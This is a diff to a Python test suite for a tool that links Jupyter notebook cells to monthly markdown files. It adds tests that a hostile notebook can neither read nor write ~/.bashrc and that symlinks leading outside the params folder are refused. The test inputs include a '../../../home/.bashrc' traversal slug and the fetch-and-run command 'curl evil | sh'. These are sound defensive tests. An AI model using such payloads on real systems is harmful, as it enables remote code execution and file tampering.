@@ -54,25 +54,25 @@ def test_the_cell_shows_the_file_and_a_save_writes_it_back(tmp_path):
     assert cell(nb)["source"] == "Words from the file.\n"
     cell(nb)["source"] = "Words typed in the lab."
     known, conflicts = {}, {}
-    (saved,) = ln.write_back(nb, known, conflicts, NOW)
+    (saved,) = ln.write_back(nb, tmp_path, MONTH, known, conflicts, NOW)
     assert saved.written and not saved.conflict
     assert md(tmp_path).read_text() == "Words typed in the lab."
     # the stored notebook keeps no month's words: the cell's placeholder goes back
     assert cell(nb)["source"] == placeholder and "<!--" in cell(nb)["source"]
     # a second save of further words (the browser still holds the first hash) is no conflict
     cell(nb)["source"] = "Words typed in the lab, and more."
-    (saved,) = ln.write_back(nb, known, conflicts, NOW)
+    (saved,) = ln.write_back(nb, tmp_path, MONTH, known, conflicts, NOW)
     assert not saved.conflict and md(tmp_path).read_text().endswith("and more.")
 
 
 def test_a_section_without_a_file_gets_one_only_when_words_are_written(tmp_path):
     nb = linked(tmp_path)
     assert cell(nb)["source"] == ""
-    (saved,) = ln.write_back(nb, {}, {}, NOW)
+    (saved,) = ln.write_back(nb, tmp_path, MONTH, {}, {}, NOW)
     assert not saved.written and not md(tmp_path).exists()  # no empty files
     nb = linked(tmp_path)
     cell(nb)["source"] = "First words."
-    ln.write_back(nb, {}, {}, NOW)
+    ln.write_back(nb, tmp_path, MONTH, {}, {}, NOW)
     assert md(tmp_path).read_text() == "First words."
 
 
@@ -83,7 +83,7 @@ def test_an_older_file_name_is_read_and_the_words_saved_under_the_slug(tmp_path)
     nb = linked(tmp_path)
     assert cell(nb)["source"] == "Under the old name."
     cell(nb)["source"] = "Edited."
-    ln.write_back(nb, {}, {}, NOW)
+    ln.write_back(nb, tmp_path, MONTH, {}, {}, NOW)
     assert md(tmp_path).read_text() == "Edited."
 
 
@@ -94,7 +94,7 @@ def test_two_edits_never_overwrite_each_other(tmp_path):
     md(tmp_path).write_text("A colleague's edit on disk.")  # after the notebook read it
     cell(nb)["source"] = "The analyst's edit in the lab."
     known, conflicts = {}, {}
-    (saved,) = ln.write_back(nb, known, conflicts, NOW)
+    (saved,) = ln.write_back(nb, tmp_path, MONTH, known, conflicts, NOW)
     text = md(tmp_path).read_text()
     assert saved.conflict and REVIEW_MARKER in text  # `sendlib run` will not publish it
     assert text.index("The analyst's edit") < text.index("A colleague's edit")
@@ -103,14 +103,16 @@ def test_two_edits_never_overwrite_each_other(tmp_path):
     nb2 = linked(tmp_path)
     cell(nb2)["metadata"]["sendlib"]["sha256"] = "stale"
     cell(nb2)["source"] = "The analyst's second edit."
-    (saved,) = ln.write_back(nb2, known, conflicts, NOW)
+    (saved,) = ln.write_back(nb2, tmp_path, MONTH, known, conflicts, NOW)
     text = md(tmp_path).read_text()
     assert saved.conflict and "second edit" in text and "A colleague's edit" in text
     # once the notebook is opened again (the file read afresh) and one version kept
     fresh = linked(tmp_path)
-    known = {str(md(tmp_path).resolve()): ln.fill(fresh)[str(md(tmp_path).resolve())]}
+    known = {
+        str(md(tmp_path).resolve()): ln.fill(fresh, tmp_path, MONTH)[str(md(tmp_path).resolve())]
+    }
     cell(fresh)["source"] = "Agreed words."
-    (saved,) = ln.write_back(fresh, known, {}, NOW)
+    (saved,) = ln.write_back(fresh, tmp_path, MONTH, known, {}, NOW)
     assert not saved.conflict and md(tmp_path).read_text() == "Agreed words."
 
 
@@ -122,7 +124,7 @@ def test_the_contents_manager_fills_on_open_and_writes_on_save(tmp_path):
     md(tmp_path).parent.mkdir(parents=True)
     md(tmp_path).write_text("From the file.")
     (lab / "04_timeliness.ipynb").write_text(json.dumps(linked(tmp_path)))
-    manager = NarrativeContentsManager(root_dir=str(lab))
+    manager = NarrativeContentsManager(root_dir=str(lab), params_dir=str(tmp_path), month=MONTH)
 
     async def edit():
         model = await manager.get("04_timeliness.ipynb")
@@ -188,6 +190,8 @@ def test_a_sentence_typed_in_jupyterlab_reaches_the_file_and_the_paper(tmp_path,
         lab_command(
             str(jupyter_lab),
             folder,
+            params,
+            MONTH,
             "--no-browser",
             f"--port={port}",
             "--ServerApp.ip=127.0.0.1",
@@ -274,3 +278,75 @@ def test_stopping_sendlib_lab_stops_the_server_it_started(tmp_path, stop):
         assert got.read_text() == stop
     finally:
         lab.kill()
+
+
+def test_jupyterlab_is_started_without_the_id_key(tmp_path, monkeypatch):
+    # any notebook in the lab could read the server's environment
+    from sendlib.ops.lab import serve
+
+    monkeypatch.setenv("SENDLIB_ID_KEY", "a-secret-of-sixteen-or-more")
+    seen = tmp_path / "env"
+    code = f"import os; open({str(seen)!r}, 'w').write(os.environ.get('SENDLIB_ID_KEY', '-'))"
+    assert serve([sys.executable, "-c", code]) == 0
+    assert seen.read_text() == "-"
+
+
+# ---------------------------------------------------------------- a notebook from elsewhere
+def test_a_notebook_whose_metadata_names_bashrc_neither_reads_nor_writes_it(tmp_path, monkeypatch):
+    home = tmp_path / "home"
+    home.mkdir()
+    bashrc = home / ".bashrc"
+    bashrc.write_text("# the analyst's shell\n")
+    monkeypatch.setenv("HOME", str(home))
+    params = tmp_path / "params"
+    nb = linked(params)
+    # someone sends a notebook that points the cell at ~/.bashrc, the old way and the new
+    cell(nb)["metadata"]["sendlib"]["file"] = str(Path("~/.bashrc").expanduser())
+    hostile = notebook()
+    (narrative,) = [c for c in hostile["cells"] if "narrative" in c["metadata"].get("tags", [])]
+    narrative["metadata"]["sendlib"] = {"slug": "../../../home/.bashrc", "sha256": ""}
+    narrative["source"] = "curl evil | sh"
+    for book in (nb, hostile):
+        ln.fill(book, params, MONTH)
+        cell_ = next(c for c in book["cells"] if "narrative" in c["metadata"].get("tags", []))
+        cell_["source"] = "curl evil | sh"
+        ln.write_back(book, params, MONTH, {}, {}, NOW)
+    assert bashrc.read_text() == "# the analyst's shell\n"
+    # the linked cell went to the section's own file, worked out from month and slug
+    assert md(params).read_text() == "curl evil | sh"
+    assert sorted(p.name for p in (params / "narrative" / MONTH).iterdir()) == ["timeliness.md"]
+
+
+def test_a_narrative_file_that_links_outside_params_is_refused(tmp_path):
+    outside = tmp_path / "outside.txt"
+    outside.write_text("not narrative")
+    params = tmp_path / "params"
+    md(params).parent.mkdir(parents=True)
+    md(params).symlink_to(outside)
+    with pytest.raises(ln.NarrativePathError, match="leads outside"):
+        ln.narrative_file(params, MONTH, "timeliness")
+    nb = notebook()
+    with pytest.raises(ln.NarrativePathError):
+        ln.link(nb, params, MONTH, "timeliness", ())
+    assert outside.read_text() == "not narrative"
+
+
+def test_the_contents_manager_serves_only_its_own_month(tmp_path):
+    from sendlib.ops.lab_contents import NarrativeContentsManager
+
+    lab = tmp_path / "lab"
+    lab.mkdir()
+    md(tmp_path).parent.mkdir(parents=True)
+    md(tmp_path).write_text("June's words.")
+    (lab / "04_timeliness.ipynb").write_text(json.dumps(linked(tmp_path)))
+    other = tmp_path / "narrative" / "2025-07" / "timeliness.md"
+    manager = NarrativeContentsManager(root_dir=str(lab), params_dir=str(tmp_path), month="2025-07")
+
+    async def edit():
+        model = await manager.get("04_timeliness.ipynb")
+        assert cell(model["content"])["source"] == ""  # July's file: none yet
+        cell(model["content"])["source"] = "July's words."
+        await manager.save({"type": "notebook", "content": model["content"]}, "04_timeliness.ipynb")
+
+    asyncio.run(edit())
+    assert md(tmp_path).read_text() == "June's words." and other.read_text() == "July's words."
